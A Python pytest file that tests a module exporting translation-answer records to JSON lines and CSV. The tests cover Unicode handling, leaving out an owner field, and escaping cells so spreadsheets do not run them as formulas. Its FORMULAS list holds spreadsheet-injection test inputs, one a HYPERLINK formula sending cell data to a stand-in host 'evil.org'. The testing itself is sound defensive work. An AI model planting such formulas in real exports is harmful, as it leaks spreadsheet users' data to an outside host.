from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import Any

import pytest

from core.storage.answer_records import AnswerRecord
from core.systems.history import CSV_COLUMNS, as_values, csv_lines, json_lines

HOSTILE = 'e\u0301 שלום नमस्ते 翻訳 👩🏽‍🔬 "quoted", \u2028 and\r\ntwo\nlines; \x85'

RECORD = AnswerRecord(
    id="a1",
    ask_id="ask1",
    position=0,
    purpose="compare",
    system_id="model:starter",
    system_name="starter",
    src_lang="eng_Latn",
    tgt_lang="gle_Latn",
    source=HOSTILE,
    asked_at="2024-03-04T05:06:07.123+00:00",
    reference="Dia duit",
    text="Dia duit",
    raw="```\nDia duit\n```",
    stages=[{"name": "draft", "text": HOSTILE}],
    state="done",
    finish_reason="stop",
    figures={
        "first_token_s": 0.25,
        "total_s": 1.5,
        "prompt_tokens": 30,
        "completion_tokens": 0,
        "cost_usd": 0.0,
        "ignored": ["seed"],
    },
    request={"messages": [{"role": "user", "content": HOSTILE}]},
    owner='{"pid": 4711, "boot": "secret"}',
    ended_at="2024-03-04T05:06:08.123+00:00",
)


def rows_of(*records: AnswerRecord) -> list[dict[str, str]]:
    text = "".join(csv_lines(records))
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_lines_hold_everything_but_the_process_that_asked() -> None:
    records = [RECORD, replace(RECORD, id="a2", text="", figures={}, ended_at=None)]
    lines = list(json_lines(records))
    assert all(line.endswith("}\n") and line.count("\n") == 1 for line in lines)
    found = [AnswerRecord(**json.loads(line)) for line in lines]
    assert found == [replace(record, owner="") for record in records]
    assert "owner" not in json.loads(lines[0])
    assert "4711" not in lines[0] and "नमस्ते" in lines[0]
    assert as_values(RECORD)["request"] == RECORD.request
    assert RECORD.owner  # the record itself is as it was


def test_csv_holds_the_columns_that_fit_a_table() -> None:
    (row,) = rows_of(RECORD)
    assert tuple(row) == CSV_COLUMNS
    assert row["source"] == HOSTILE
    assert row["raw"] == RECORD.raw
    assert (row["first_token_s"], row["total_s"], row["cost_usd"]) == ("0.25", "1.5", "0.0")
    assert (row["prompt_tokens"], row["completion_tokens"], row["position"]) == ("30", "0", "0")
    assert "4711" not in "".join(csv_lines([RECORD]))


def test_csv_without_answers_is_its_header() -> None:
    assert list(csv_lines([])) == [",".join(CSV_COLUMNS) + "\r\n"]
    assert list(json_lines([])) == []


def test_figures_that_are_not_known_are_empty_cells() -> None:
    (row,) = rows_of(replace(RECORD, figures={"total_s": None}))
    assert (row["total_s"], row["prompt_tokens"], row["cost_usd"]) == ("", "", "")


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.org/?"&A1,"click")',
    "+1",
    "-1",
    "- a list",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_spreadsheet_takes_a_text_for_a_formula(text: str) -> None:
    columns = ("source", "reference", "text", "raw", "system_name", "failure")
    (row,) = rows_of(replace(RECORD, **dict.fromkeys(columns, text)))
    assert [row[name] for name in columns] == [f"'{text}"] * len(columns)
    # In JSON a text is a text.
    assert json.loads(next(json_lines([replace(RECORD, text=text)])))["text"] == text


def test_lines_come_one_after_the_other() -> None:
    def endless() -> Any:
        while True:
            yield RECORD

    for lines in (json_lines(endless()), csv_lines(endless())):
        assert all(next(lines) for _ in range(1000))
